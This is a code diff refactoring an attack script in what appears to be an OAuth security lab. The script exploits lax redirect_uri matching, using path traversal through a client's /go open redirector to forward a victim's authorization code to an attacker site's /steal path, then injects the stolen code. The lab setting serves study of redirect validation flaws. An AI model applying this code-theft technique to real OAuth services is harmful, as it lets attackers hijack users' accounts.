@@ -11,41 +11,26 @@ redirectors"; BCP §2.1: exact matching.
 
 from __future__ import annotations
 
-import secrets
-from urllib.parse import quote, urlencode
+from urllib.parse import quote
 
 from attacker import fixtures
-from attacker import frontchannel as fc
 from attacker.context import AttackContext
-from attacker.inject import inject_code
+from attacker.inject import code_lured_to_site, inject_code
 from attacker.model import Attack
-from lab.authserver.clients import TPP_CLIENT_ID
 
 STEAL_PATH = "/steal"
 
 
 def run(ctx: AttackContext) -> None:
     fx = fixtures.ensure_running(ctx)
-    since = fx.mark()
     redirect_uri = ctx.url("tpp", "/callback/../go?url=") + quote(fx.site + STEAL_PATH, safe="")
-    url = ctx.url("as", "/authorize") + "?" + urlencode({
-        "response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
-        "scope": fc.FINLENS_SCOPE, "state": secrets.token_urlsafe(16)})
-    ctx.step("attacker", "builds an authorization request for FinLens's client_id whose "
-             "redirect_uri goes through FinLens's /go redirector to its own site", url=url)
-    victim = ctx.victim("alice")
-    victim.sign_in()
-    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
-    # The browser opens the callback and follows /go's redirect (status checked via the log).
-    victim.visit(result.callback_url or "")
-    got = [r for r in fx.received(ctx, "site", since=since, path=STEAL_PATH)
-           if r.query().get("code")]
-    if not got:
-        ctx.failed("FinLens's /go did not forward the code to the attacker's site")
-    params = got[-1].query()
-    ctx.step("attacker", "reads the victim's code, forwarded by FinLens's /go, from its "
-             "site's log")
-    inject_code(ctx, params["code"], victim.username, iss=params.get("iss"),
+    got = code_lured_to_site(
+        ctx, fx, redirect_uri, STEAL_PATH,
+        built="builds an authorization request for FinLens's client_id whose redirect_uri "
+              "goes through FinLens's /go redirector to its own site",
+        missing="FinLens's /go did not forward the code to the attacker's site",
+        read="reads the victim's code, forwarded by FinLens's /go, from its site's log")
+    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
                 source="FinLens forwarded to its site")
 
 
